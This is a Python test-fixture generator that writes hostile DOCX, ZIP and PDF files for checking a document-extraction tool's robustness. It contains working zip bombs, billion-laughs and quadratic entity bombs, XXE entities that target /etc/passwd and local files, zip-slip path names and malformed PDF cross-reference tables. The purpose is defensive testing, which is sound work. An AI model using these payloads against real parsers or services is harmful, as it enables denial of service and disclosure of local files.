#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""make_hostile.py OUTDIR [--only docx,pdf,fs,inject] [--small]

Writes synthetic hostile documents and directory layouts for testing policygap.
Plain Python 3 standard library, original code, deterministic (no clock, no randomness),
no network.  Nothing here is malware: files only try to exhaust resources, confuse
parsers, or carry canary strings that must not be executed, fetched or lost.

Every file is listed in OUTDIR/MANIFEST.tsv:
    path  threat  expected  must_contain
 expected     = outcome class policygap should report (a '|' separates allowed ones):
   ok               parsed, the canary text is found
   partial:<why>    some text delivered and the gap is SAID (limit, damaged, image pages)
   no_text          parsed, but there is no text (needs OCR)
   needs_password / unsupported_encryption
   wrong_type       content is another format than the name says (may be re-routed: 'ok')
   unsupported      known but unsupported format (old .doc, xlsx ...)
   corrupt          cannot be parsed
   limit:<which>    a stated limit stopped the document (inflated, entries, time, memory ...)
   unreadable       permission / IO error
   skipped:<why>    not a regular document (fifo, device, socket, loop, lock file)
 must_contain = text that has to be in the extracted text ('' = nothing required)
                a leading '!' = must NOT be in the output.
In no case: crash of the run, hang, a missing row in the report, network access,
a file written outside the output directory.
--small keeps every construction but divides sizes by about 50 (for quick CI).
"""
import os, sys, struct, zlib, hashlib, stat, socket

CANARY = "All communication must go through the Information Department."  # a restrictive clause
CANARY_SV = "All kommunikation ska gå via informationsavdelningen."
SECRET = "LEAKED-LOCAL-FILE-CONTENT"                              # XXE target's content
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SMALL = False
ROWS = []
OUT = None

def n(big):
    return max(1, big // 50) if SMALL else big

def put(rel, data, threat, expected, must=""):
    p = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data)
    row(rel, threat, expected, must)
    return p

def row(rel, threat, expected, must=""):
    if isinstance(rel, bytes):
        rel = os.fsdecode(rel)
    esc = rel.encode("utf-8", "surrogateescape").decode("latin-1").encode("unicode_escape").decode()
    ROWS.append((esc, threat, expected, must))

# ---------------------------------------------------------------- ZIP with full control
def crc(b): return zlib.crc32(b) & 0xFFFFFFFF

def deflate(b, level=9):
    c = zlib.compressobj(level, zlib.DEFLATED, -15)
    return c.compress(b) + c.flush()

def deflate_repeat(block, times, head=b"", tail=b""):
    """raw deflate stream + crc + size of head + block*times + tail without ever holding it:
    a full flush makes the compressed block position independent, so it can be repeated."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)]
    c2 = zlib.compressobj(9, zlib.DEFLATED, -15)
    unit = c2.compress(block) + c2.flush(zlib.Z_FULL_FLUSH)
    out.append(unit * times)
    c3 = zlib.compressobj(9, zlib.DEFLATED, -15)
    out.append(c3.compress(tail) + c3.flush())
    k = zlib.crc32(head)
    for _ in range(times):
        k = zlib.crc32(block, k)
    k = zlib.crc32(tail, k) & 0xFFFFFFFF
    return b"".join(out), k, len(head) + len(block) * times + len(tail)

class Zip:
    """ZIP writer in which every header field can lie."""
    def __init__(self, prefix=b""):
        self.buf = bytearray(prefix); self.base = len(prefix); self.cd = []
    @staticmethod
    def lfh(name, c, csize, usize, method=8, flags=0):
        return struct.pack("<4s5H3I2H", b"PK\3\4", 20, flags, method, 0, 33, c,
                           csize & 0xFFFFFFFF, usize & 0xFFFFFFFF, len(name), 0) + name
    def raw(self, name, comp, c, usize, method=8, flags=0, lname=None, cd_usize=None, cd_csize=None, cd_crc=None):
        if isinstance(name, str): name = name.encode()
        off = len(self.buf)
        self.buf += self.lfh(lname if lname is not None else name, c, len(comp), usize, method, flags) + comp
        self.central(name, off, cd_crc if cd_crc is not None else c,
                     cd_csize if cd_csize is not None else len(comp),
                     cd_usize if cd_usize is not None else usize, method, flags)
    def central(self, name, off, c, csize, usize, method=8, flags=0):
        self.cd.append(struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, flags, method, 0, 33, c,
                       csize & 0xFFFFFFFF, usize & 0xFFFFFFFF, len(name), 0, 0, 0, 0, 0, off) + name)
    def add(self, name, data, store=False, **kw):
        if isinstance(data, str): data = data.encode()
        if store: self.raw(name, data, crc(data), len(data), method=0, **kw)
        else: self.raw(name, deflate(data), crc(data), len(data), **kw)
    def done(self, comment=b""):
        cdoff = len(self.buf); cd = b"".join(self.cd); k = min(len(self.cd), 0xFFFF)
        self.buf += cd + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, k, k, len(cd), cdoff, len(comment)) + comment
        return bytes(self.buf)

CT = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
      '<Default Extension="xml" ContentType="application/xml"/>'
      '<Default Extension="png" ContentType="image/png"/><Default Extension="html" ContentType="text/html"/>'
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
def rels(*items):
    s = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    for i, (typ, target, ext) in enumerate(items, 1):
        s += f'<Relationship Id="rId{i}" Type="{REL}/{typ}" Target="{target}"{" TargetMode=%sExternal%s" % (chr(34), chr(34)) if ext else ""}/>'
    return s + "</Relationships>"
ROOT = rels(("officeDocument", "word/document.xml", False))
def x(s): return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
def para(t, rpr=""): return f'<w:p><w:r>{rpr}<w:t xml:space="preserve">{x(t)}</w:t></w:r></w:p>'
def body(inner, decl='<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', doctype="", ns=W):
    return f'{decl}{doctype}<w:document xmlns:w="{ns}" xmlns:r="{REL}"><w:body>{inner}</w:body></w:document>'
def zip0(prefix=b"", ct=CT, root=ROOT):
    z = Zip(prefix); z.add("[Content_Types].xml", ct); z.add("_rels/.rels", root); return z
def docx(doc, extra=(), **kw):
    z = zip0(**kw); z.add("word/document.xml", doc)
    for a, b in extra: z.add(a, b)
    return z.done()
GOOD = body(para(CANARY) + para(CANARY_SV))

def make_docx():
    D = "docx/"
    put(D+"good.docx", docx(GOOD), "control", "ok", CANARY)
    put(D+"good_stored_prefix.docx", docx(GOOD, prefix=b"MZ" + b"j" * 900), "junk before zip (offsets counted from file start)", "ok", CANARY)
    # --- zip bombs
    blk = b" " * (1 << 20)
    comp, k, u = deflate_repeat(blk, n(3000), body("@@").split("@@")[0].encode() + para(CANARY).encode(), b"</w:body></w:document>")
    z = zip0(); z.raw("word/document.xml", comp, k, u)
    put(D+"bomb_document_3GiB.docx", z.done(), "zip bomb: document.xml inflates to 3 GiB of blanks", "limit:inflated|partial:limit")
    z = zip0(); z.raw("word/document.xml", comp, k, u, cd_usize=1000)
    put(D+"bomb_lying_size.docx", z.done(), "zip bomb: central directory claims 1000 bytes", "limit:inflated|corrupt|partial:limit")
    pb = para("a").encode(); pc, pk, pu = deflate_repeat(pb * (1048576 // len(pb)), n(3000), body("@@").split("@@")[0].encode() + para(CANARY).encode(), b"</w:body></w:document>")
    z = zip0(); z.raw("word/document.xml", pc, pk, pu)
    put(D+"bomb_paragraphs_3GiB.docx", z.done(), "zip bomb of 50 million short paragraphs: passes libxml2's text and depth limits", "limit:inflated|partial:limit|limit:time")
    z = zip0(); z.add("word/document.xml", GOOD); z.raw("word/media/image1.png", comp, k, u)
    put(D+"bomb_in_media.docx", z.done(), "bomb in a part that is not needed", "ok", CANARY)
    inner = z.done()
    for i in range(6):
        z = zip0(); z.add("word/document.xml", GOOD); z.add("word/embeddings/inner%d.docx" % i, inner, store=True); inner = z.done()
    put(D+"nested_embeddings.docx", inner, "6 nested docx, bomb innermost; do not recurse unasked", "ok", CANARY)
    # overlapping entries: (a) many directory entries -> one local header
    z = zip0(); z.add("word/document.xml", GOOD); kern = deflate(b"a" * (1 << 24)); kc = crc(b"a" * (1 << 24)); off = len(z.buf)
    z.buf += Zip.lfh(b"word/media/k", kc, len(kern), 1 << 24) + kern
    for i in range(n(60000)): z.central(b"word/media/%05d" % i, off, kc, len(kern), 1 << 24)
    put(D+"overlap_same_header.docx", z.done(), "60,000 directory entries on one 16 MiB kernel (~1 TB)", "ok|limit:entries", "")
    # (b) quoted overlap (the construction published by D. Fifield, 2019): each member's deflate
    # stream starts with a stored block that quotes the next member's local header.
    usz = 1 << 23; pay = b"a" * usz; stream = deflate(pay); data = pay; members = []
    N = n(400); chain = b""
    for i in range(N - 1, -1, -1):
        name = b"word/media/%04d.png" % i
        h = Zip.lfh(name, crc(data), len(stream), len(data))
        members.append((name, crc(data), len(stream), len(data), len(h)))
        stream = struct.pack("<BHH", 0, len(h), len(h) ^ 0xFFFF) + h + stream
        data = h + data
        chain = h
    z = zip0(); z.add("word/document.xml", GOOD); start = len(z.buf)
    z.buf += stream[5:]; pos = start
    for name, kk, cs, us, hl in reversed(members):
        z.central(name, pos, kk, cs, us); pos += hl + 5
    put(D+"overlap_quoted.docx", z.done(), "overlapping members by quoted headers (3 GiB total)", "ok|limit:inflated", "")
    z = zip0(); z.add("word/document.xml", GOOD)
    for i in range(n(64000)): z.add("word/media/%x" % i, b"", store=True)
    put(D+"many_entries.docx", z.done(), "64,000 zip entries", "ok|limit:entries", "")
    # --- XML bombs and external entities
    ents = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i-1)) * 10}">' for i in range(1, 10))
    put(D+"xml_billion_laughs.docx", docx(body(para("@").replace("@", "&l9;"), doctype=f'<!DOCTYPE d [<!ENTITY l0 "lol">{ents}]>')), "billion laughs", "corrupt|limit:xml")
    put(D+"xml_quadratic.docx", docx(body(para("@").replace("@", "&a;" * n(50000)), doctype=f'<!DOCTYPE d [<!ENTITY a "{"A" * n(100000)}">]>')), "quadratic blow-up entity", "corrupt|limit:xml")
    open(os.path.join(OUT, "xxe_secret.txt"), "w").write(SECRET + "\n"); row("xxe_secret.txt", "target of the XXE files", "skipped:type")
    sec = "file://" + os.path.abspath(os.path.join(OUT, "xxe_secret.txt"))
    put(D+"xxe_file.docx", docx(body(para(CANARY) + para("@").replace("@", "&e;"), doctype=f'<!DOCTYPE d [<!ENTITY e SYSTEM "{sec}">]>')), "XXE: local file", "corrupt|ok", "!" + SECRET)
    put(D+"xxe_etc_passwd.docx", docx(body(para(CANARY) + para("@").replace("@", "&e;"), doctype='<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>')), "XXE: /etc/passwd", "corrupt|ok", "!root:x:0")
    put(D+"xxe_dev_zero.docx", docx(body(para("@").replace("@", "&e;"), doctype='<!DOCTYPE d [<!ENTITY e SYSTEM "file:///dev/zero">]>')), "XXE: endless device", "corrupt|ok")
    put(D+"xxe_http.docx", docx(body(para("@").replace("@", "&e;"), doctype='<!DOCTYPE d [<!ENTITY e SYSTEM "http://127.0.0.1:9/xxe">]>')), "XXE: network", "corrupt|ok")
    put(D+"xxe_ext_dtd.docx", docx(body(para(CANARY), doctype='<!DOCTYPE w:document SYSTEM "http://127.0.0.1:9/x.dtd">')), "external DTD over network", "corrupt|ok")
    put(D+"xxe_param_entity.docx", docx(body(para(CANARY), doctype='<!DOCTYPE d [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p"> %p;]>')), "external parameter entity", "corrupt|ok")
    put(D+"xxe_in_rels.docx", docx(GOOD, root=ROOT.replace("<Relationships", f'<!DOCTYPE d [<!ENTITY e SYSTEM "{sec}">]><Relationships', 1)), "DTD inside _rels/.rels", "corrupt|ok", "!" + SECRET)
    put(D+"xinclude.docx", docx(body(para(CANARY) + f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{sec}"/>')), "XInclude", "ok", "!" + SECRET)
    # --- shape of the XML
    d = n(1000000)
    put(D+"deep_1e6_closed.docx", docx(body("<w:a>" * d + "</w:a>" * d + para(CANARY))), "1e6 nested elements, well formed", "corrupt|limit:depth|partial:limit")
    put(D+"deep_1e6_open.docx", docx(body("@").split("@")[0] + "<w:a>" * d), "1e6 nested elements, never closed", "corrupt|limit:depth")
    t = n(5000)
    put(D+"deep_tables.docx", docx(body("<w:tbl><w:tr><w:tc>" * t + para(CANARY) + "</w:tc></w:tr></w:tbl>" * t)), "5,000 nested tables", "corrupt|limit:depth|ok")
    put(D+"deep_200_tables.docx", docx(body("<w:tbl><w:tr><w:tc>" * 60 + para(CANARY) + "</w:tc></w:tr></w:tbl>" * 60)), "60 nested tables: legal, below libxml2's 256", "ok", CANARY)
    put(D+"attr_50MB.docx", docx(body(f'<w:p w:rsidR="{"A" * n(50_000_000)}"/>' + para(CANARY))), "50 MB attribute", "corrupt|limit:xml|partial:limit|ok")
    put(D+"attr_100k.docx", docx(body("<w:p " + " ".join(f'w:a{i}="1"' for i in range(n(100000))) + "/>" + para(CANARY))), "100,000 attributes on one element", "corrupt|limit:xml|ok")
    put(D+"ns_100k.docx", docx(body("<w:p " + " ".join(f'xmlns:n{i}="urn:{i}"' for i in range(n(100000))) + "/>" + para(CANARY))), "100,000 namespaces", "corrupt|limit:xml|ok")
    put(D+"text_60MB.docx", docx(body(para(CANARY) + para("A" * n(60_000_000)))), "one 60 MB text node (libxml2 stops at 10 MB without XML_PARSE_HUGE)", "ok|limit:xml|partial:limit")
    put(D+"paras_1e6.docx", docx(body(para(CANARY) * n(1_000_000))), "1e6 identical clauses, legal, ratio > 200:1", "ok|limit:inflated|partial:limit", CANARY)
    put(D+"runs_split.docx", docx(body("<w:p>" + "".join(f"<w:r><w:t xml:space=\"preserve\">{c}</w:t></w:r>" for c in CANARY) + "</w:p>")), "every letter in its own run", "ok", CANARY)
    # --- missing, empty, wrong encodings
    z = zip0(); put(D+"no_document_part.docx", z.done(), "document.xml missing", "corrupt")
    put(D+"empty_document_part.docx", docx(""), "document.xml empty", "corrupt")
    put(D+"not_xml.docx", docx(b"\x00\x01\x02 this is not xml " * 50), "document.xml is not XML", "corrupt")
    put(D+"xml_truncated.docx", docx(body(para(CANARY) * 50)[:-200]), "document.xml cut off", "partial:damaged|corrupt")
    put(D+"utf16le.docx", docx(b"\xff\xfe" + body(para(CANARY) + para(CANARY_SV), decl='<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16-le")), "UTF-16 LE document.xml", "ok", CANARY_SV)
    put(D+"utf16be.docx", docx(b"\xfe\xff" + body(para(CANARY_SV), decl='<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16-be")), "UTF-16 BE document.xml", "ok", CANARY_SV)
    put(D+"utf16_lie.docx", docx(body(para(CANARY), decl='<?xml version="1.0" encoding="UTF-16"?>')), "declares UTF-16, is UTF-8", "ok|corrupt")
    put(D+"latin1.docx", docx(body(para(CANARY_SV), decl='<?xml version="1.0" encoding="ISO-8859-1"?>').encode("latin-1")), "ISO-8859-1 document.xml", "ok", CANARY_SV)
    put(D+"bad_utf8.docx", docx(body(para(CANARY) + para("@@")).encode().replace(b"@@", b"\xff\xfe\xc3(")), "invalid UTF-8 inside", "corrupt|partial:damaged")
    put(D+"nul_and_ctrl.docx", docx(body(para(CANARY) + para("a@b")).encode().replace(b"@", b"\x00\x0b")), "NUL / control characters", "corrupt|partial:damaged")
    put(D+"strict_ns.docx", docx(body(para(CANARY), ns="http://purl.oclc.org/ooxml/wordprocessingml/main"), root=ROOT.replace(REL, "http://purl.oclc.org/ooxml/officeDocument/relationships")), "ISO strict namespaces (legal)", "ok", CANARY)
    z = Zip(); z.add("[Content_Types].xml", CT.replace("/word/document.xml", "/word/document7.xml")); z.add("_rels/.rels", rels(("officeDocument", "/word/document7.xml", False))); z.add("word/document7.xml", GOOD)
    put(D+"renamed_main_part.docx", z.done(), "main part is word/document7.xml by relationship (legal)", "ok", CANARY)
    # --- names and structure of the zip
    evil = ["../../../../tmp/policygap_slip.txt", "/tmp/policygap_abs.txt", "..\\..\\policygap_bs.txt", "word/../../slip2.txt", "C:\\evil.txt", "a\x00b.txt", "word/" + "a" * 60000]
    z = zip0(); z.add("word/document.xml", GOOD)
    for e in evil: z.add(e, "slip")
    put(D+"zip_slip_names.docx", z.done(), "../, absolute, backslash, NUL and 60 kB entry names", "ok", CANARY)
    z = zip0(); z.add("word/document.xml", GOOD); z.add("word/document.xml", body(para("All users may install any software.")))
    put(D+"dup_document.docx", z.done(), "two entries word/document.xml that differ (parser differential)", "corrupt|partial:damaged|ok")
    z = zip0(); z.raw("word/document.xml", deflate(GOOD.encode()), crc(GOOD.encode()), len(GOOD.encode()), lname=b"word/somethin.xml")
    put(D+"local_name_differs.docx", z.done(), "local and central names differ", "ok|corrupt")
    z = zip0(); z.add("WORD/Document.XML", GOOD); put(D+"case_names.docx", z.done(), "part names in another case (OPC: case-insensitive)", "ok", CANARY)
    z = Zip(); [z.add(a.replace("/", "\\"), b) for a, b in (("[Content_Types].xml", CT), ("_rels/.rels", ROOT), ("word/document.xml", GOOD))]
    put(D+"backslash_names.docx", z.done(), "entry names with backslashes (seen in the wild)", "ok|corrupt")
    g = docx(GOOD)
    put(D+"truncated_half.docx", g[:len(g)//2], "zip cut in half (no central directory)", "corrupt|partial:damaged")
    put(D+"truncated_eocd.docx", g[:-10], "last 10 bytes missing", "corrupt|ok|partial:damaged")
    put(D+"trailing_junk.docx", g + b"\0" * 70000, "70 kB of NUL after the zip", "ok|corrupt")
    z = zip0(); z.raw("word/document.xml", deflate(GOOD.encode()), 12345, len(GOOD.encode()))
    put(D+"crc_wrong.docx", z.done(), "CRC mismatch", "corrupt|partial:damaged")
    z = zip0(); z.raw("word/document.xml", deflate(GOOD.encode()), crc(GOOD.encode()), len(GOOD.encode()), flags=1)
    put(D+"zip_encrypted_flag.docx", z.done(), "zip-level encryption flag", "needs_password|corrupt")
    z = zip0(); z.raw("word/document.xml", b"x" * 100, 0, 1000, method=99); put(D+"zip_method_99.docx", z.done(), "unknown compression method", "corrupt|unsupported")
    z = zip0(); dd = deflate(GOOD.encode()); z.raw("word/document.xml", dd[:40] + b"\xff" * 40 + dd[40:], crc(GOOD.encode()), len(GOOD.encode())); put(D+"deflate_damaged.docx", z.done(), "damaged deflate stream", "corrupt|partial:damaged")
    put(D+"eocd_in_comment.docx", (lambda zz: (zz.add("word/document.xml", GOOD), zz.done(b"PK\5\6" + b"\0" * 18))[1])(zip0()), "second end record inside the comment", "ok|corrupt")
    # --- references outwards (must be ignored)
    ext = rels(("image", "http://127.0.0.1:9/i.png", True), ("attachedTemplate", "http://127.0.0.1:9/t.dotm", True), ("hyperlink", "javascript:alert(1)", True), ("aFChunk", "http://127.0.0.1:9/c.html", True), ("subDocument", "file:///etc/passwd", True), ("oleObject", "\\\\127.0.0.1\\share\\x", True))
    put(D+"external_rels.docx", docx(body(para(CANARY) + '<w:altChunk r:id="rId4"/><w:subDoc r:id="rId5"/>'), extra=[("word/_rels/document.xml.rels", ext), ("word/_rels/settings.xml.rels", rels(("attachedTemplate", "http://127.0.0.1:9/t.dotm", True))), ("word/settings.xml", f'<w:settings xmlns:w="{W}" xmlns:r="{REL}"><w:attachedTemplate r:id="rId1"/></w:settings>')]), "remote template, linked image, OLE link, external altChunk", "ok", CANARY)
    put(D+"altchunk_html.docx", docx(body('<w:altChunk r:id="rId1"/>'), extra=[("word/_rels/document.xml.rels", rels(("aFChunk", "chunk.html", False))), ("word/chunk.html", f"<html><script>alert(1)</script><p>{CANARY}</p></html>")]), "text only inside an altChunk HTML part", "ok|partial:altchunk|no_text")
    put(D+"rels_traversal.docx", docx(body(para(CANARY)), root=rels(("officeDocument", "../../../../../../etc/passwd", False))), "officeDocument target leaves the package", "corrupt|ok", "!root:x:0")
    put(D+"rels_external_main.docx", docx(GOOD, root=rels(("officeDocument", "http://127.0.0.1:9/document.xml", True))), "main part is External", "corrupt|ok")
    put(D+"rels_loop.docx", docx(GOOD, extra=[("word/_rels/document.xml.rels", rels(("header", "document.xml", False), ("footnotes", "document.xml", False)))]), "document is its own header/footnotes", "ok", CANARY)
    # --- hidden or struck text
    put(D+"hidden_text.docx", docx(body(para(CANARY, "<w:rPr><w:vanish/></w:rPr>") + para(CANARY_SV, '<w:rPr><w:color w:val="FFFFFF"/></w:rPr>'))), "vanish + white text: report, marked as hidden", "ok", CANARY)
    put(D+"tracked_deleted.docx", docx(body(para("Kept.") + f'<w:p><w:del w:id="1" w:author="x"><w:r><w:delText>{CANARY}</w:delText></w:r></w:del></w:p>')), "deleted tracked change is not in force", "ok", "!" + CANARY)
    # --- CFB (OLE2) files with a .docx name
    put(D+"encrypted_cfb.docx", cfb([("EncryptionInfo", b"\4\0\4\0" + b"\0" * 5000), ("EncryptedPackage", b"\0" * 8192)]), "MS-OFFCRYPTO container (password protected)", "needs_password")
    put(D+"old_word_cfb.docx", cfb([("WordDocument", b"\xec\xa5" + b"\0" * 6000), ("1Table", b"\0" * 5000)]), "Word 97 file named .docx", "unsupported|wrong_type")
    c = bytearray(cfb([("WordDocument", b"\0" * 5000)])); c[512:516] = struct.pack("<I", 0); put(D+"cfb_fat_loop.docx", bytes(c), "CFB whose FAT chain loops", "corrupt|unsupported|wrong_type")
    # --- wrong types
    for nm, dat in (("html", b"<html><body>" + CANARY.encode() + b"</body></html>"), ("rtf", b"{\\rtf1 " + CANARY.encode() + b"}"), ("pdf", simple_pdf(CANARY)), ("plain_zip", (lambda q: (q.add("a.txt", "x"), q.done())[1])(Zip())), ("text", CANARY.encode())):
        put(D+f"really_{nm}.docx", dat, f"a {nm} named .docx", "wrong_type|unsupported|ok")
    z = Zip(); z.add("[Content_Types].xml", CT); z.add("_rels/.rels", rels(("officeDocument", "xl/workbook.xml", False))); z.add("xl/workbook.xml", "<workbook/>"); put(D+"really_xlsx.docx", z.done(), "xlsx named .docx", "wrong_type|unsupported")
    put(D+"empty.docx", b"", "0 bytes", "corrupt"); put(D+"one_byte.docx", b"P", "1 byte", "corrupt"); put(D+"nul_1MB.docx", b"\0" * (1 << 20), "all NUL (failed copy)", "corrupt")

def cfb(streams):
    """minimal OLE2 compound file: header, 1 FAT sector, directory, streams >= 4096 bytes"""
    SS = 512; secs = []; fat = [0xFFFFFFFD]; secs.append(None)             # sector 0 = FAT
    nd = (len(streams) + 1 + 3) // 4; dstart = 1
    for i in range(nd): fat.append(i + 2 if i < nd - 1 else 0xFFFFFFFE); secs.append(None)
    ent = []
    for nm, dat in streams:
        dat = dat.ljust(4096, b"\0"); k = (len(dat) + SS - 1) // SS; st = len(fat)
        for i in range(k):
            fat.append(st + i + 1 if i < k - 1 else 0xFFFFFFFE); secs.append(dat[i*SS:(i+1)*SS].ljust(SS, b"\0"))
        ent.append((nm, st, len(dat)))
    def de(nm, typ, child, right, st, size):
        u = nm.encode("utf-16-le") + b"\0\0"
        return u.ljust(64, b"\0") + struct.pack("<HBBiii", len(u), typ, 1, -1, right, child) + b"\0" * 36 + struct.pack("<II I", st, size, 0)
    dirs = de("Root Entry", 5, 1, -1, 0xFFFFFFFE, 0)
    for i, (nm, st, size) in enumerate(ent): dirs += de(nm, 2, -1, i + 2 if i + 1 < len(ent) else -1, st, size)
    dirs = dirs.ljust(nd * SS, b"\0")
    for i in range(nd): secs[dstart + i] = dirs[i*SS:(i+1)*SS]
    secs[0] = b"".join(struct.pack("<I", f) for f in fat).ljust(SS, b"\xff")[:SS]
    hdr = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<5H6x9I", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, dstart, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    return (hdr + struct.pack("<I", 0)).ljust(SS, b"\xff") + b"".join(secs)

# ---------------------------------------------------------------- PDF
class Pdf:
    def __init__(self): self.o = {}; self.trailer = ""; self.n = 0
    def add(self, s, num=None):
        if num is None: self.n += 1; num = self.n
        self.n = max(self.n, num); self.o[num] = s if isinstance(s, bytes) else s.encode("latin-1"); return num
    def stream(self, data, extra="", num=None, comp=True):
        if isinstance(data, str): data = data.encode("latin-1")
        if comp: data = zlib.compress(data, 9); extra += " /Filter /FlateDecode"
        return self.add(b"<< /Length %d%s >>\nstream\n" % (len(data), (" " + extra).encode()) + data + b"\nendstream", num)
    def done_xref_stream(self, root, free=0):
        """same, with a cross-reference stream that declares `free` more (unused) objects"""
        out = bytearray(b"%PDF-1.7\n"); offs = {}
        for k in sorted(self.o):
            offs[k] = len(out); out += b"%d 0 obj\n" % k + self.o[k] + b"\nendobj\n"
        m = max(self.o) + 1; xo = len(out)
        ent = b"".join(struct.pack(">BIB", 1 if k in offs else 0, offs.get(k, 0), 0) for k in range(m)) + struct.pack(">BIB", 1, xo, 0) + b"\0" * 6 * free
        data = zlib.compress(ent, 9)
        out += b"%d 0 obj\n<< /Type /XRef /W [1 4 1] /Size %d /Root %d 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % (m, m + 1 + free, root, len(data)) + data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xo
        return bytes(out)
    def done(self, root, prev=None, header=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", startxref=None):
        out = bytearray(header); offs = {}
        for k in sorted(self.o):
            offs[k] = len(out); out += b"%d 0 obj\n" % k + self.o[k] + b"\nendobj\n"
        xo = len(out); m = max(self.o) + 1
        out += b"xref\n0 %d\n0000000000 65535 f \n" % m
        for k in range(1, m): out += b"%010d 00000 n \n" % offs[k] if k in offs else b"0000000000 00000 f \n"
        p = xo if prev == "self" else prev
        out += b"trailer\n<< /Size %d /Root %d 0 R %s%s >>\nstartxref\n%d\n%%%%EOF\n" % (m, root, self.trailer.encode("latin-1"), b" /Prev %d" % p if p is not None else b"", xo if startxref is None else startxref)
        return bytes(out)

FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
def esc(t): return t.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").replace("\r", "\\r").replace("\n", "\\n")
def show(t, pre="", y=700, size=12): return f"BT {pre} /F1 {size} Tf 50 {y} Td ({esc(t)}) Tj ET\n"
def page_pdf(content, res="", extra="", box="[0 0 595 842]", font=FONT, pages=None, tweak=None, comp=True, **kw):
    p = Pdf(); cat = p.add(""); pgs = p.add(""); f = p.add(font)
    c = p.stream(content, comp=comp) if not isinstance(content, tuple) else p.add(content[0])
    pg = p.add(f"<< /Type /Page /Parent {pgs} 0 R /MediaBox {box} /Contents {c} 0 R /Resources << /Font << /F1 {f} 0 R >> {res} >> {extra} >>")
    p.add(f"<< /Type /Catalog /Pages {pgs} 0 R >>", cat); p.add(pages or f"<< /Type /Pages /Kids [{pg} 0 R] /Count 1 >>", pgs)
    if tweak: tweak(p, dict(cat=cat, pgs=pgs, f=f, c=c, pg=pg))
    if "xrefstm" in kw: return p.done_xref_stream(cat, kw["xrefstm"])
    return p.done(cat, **kw)
def simple_pdf(t, **kw): return page_pdf(show(t), **kw)

PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
def rc4(key, data):
    s = list(range(256)); j = 0
    for i in range(256): j = (j + s[i] + key[i % len(key)]) & 255; s[i], s[j] = s[j], s[i]
    i = j = 0; o = bytearray()
    for b in data:
        i = (i + 1) & 255; j = (j + s[i]) & 255; s[i], s[j] = s[j], s[i]; o.append(b ^ s[(s[i] + s[j]) & 255])
    return bytes(o)
def encrypted_pdf(user, owner):
    """standard security handler V2 R3, 128-bit RC4"""
    md5 = lambda b: hashlib.md5(b).digest(); pad = lambda q: (q.encode("latin-1") + PAD)[:32]
    fid = b"0123456789abcdef"; P = struct.pack("<i", -3904)
    k = md5(pad(owner))
    for _ in range(50): k = md5(k)
    O = pad(user)
    for i in range(20): O = rc4(bytes(b ^ i for b in k), O)
    key = md5(pad(user) + O + P + fid)
    for _ in range(50): key = md5(key)
    U = md5(PAD + fid)
    for i in range(20): U = rc4(bytes(b ^ i for b in key), U)
    U = U + b"\0" * 16
    hexs = lambda b: "<" + b.hex() + ">"
    def tw(p, ids):
        num = ids["c"]; data = rc4(md5(key + struct.pack("<I", num)[:3] + b"\0\0")[:16], show(CANARY).encode())
        p.add(b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream", num)
        e = p.add(f"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O {hexs(O)} /U {hexs(U)} >>")
        p.trailer = f"/Encrypt {e} 0 R /ID [{hexs(fid)} {hexs(fid)}]"
    return page_pdf("x", tweak=tw)

def make_pdf():
    D = "pdf/"
    good = simple_pdf(CANARY); put(D+"good.pdf", good, "control", "ok", CANARY)
    # --- damage
    put(D+"truncated_half.pdf", page_pdf(show(CANARY) * 1, comp=False)[:len(good)//2], "cut in half", "corrupt|partial:damaged")
    put(D+"truncated_tail.pdf", good[:-120], "trailer missing (Poppler 22.12 and qpdf 11.3 give up; a scan for /Type /Catalog would find it)", "ok|partial:damaged|corrupt")
    put(D+"xref_broken.pdf", page_pdf(show(CANARY), startxref=99999999), "startxref beyond the end", "ok|partial:damaged", CANARY)
    put(D+"xref_loop_self.pdf", page_pdf(show(CANARY), prev="self"), "xref /Prev points to itself", "ok|partial:damaged|corrupt")
    def twoloop():
        a = page_pdf(show(CANARY)); sx = int(a.rsplit(b"startxref\n", 1)[1].split()[0]); x2 = len(a)
        sec = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (sx, x2)
        return a[:sx] + a[sx:].replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %010d" % (x2 + 16), 1) + sec
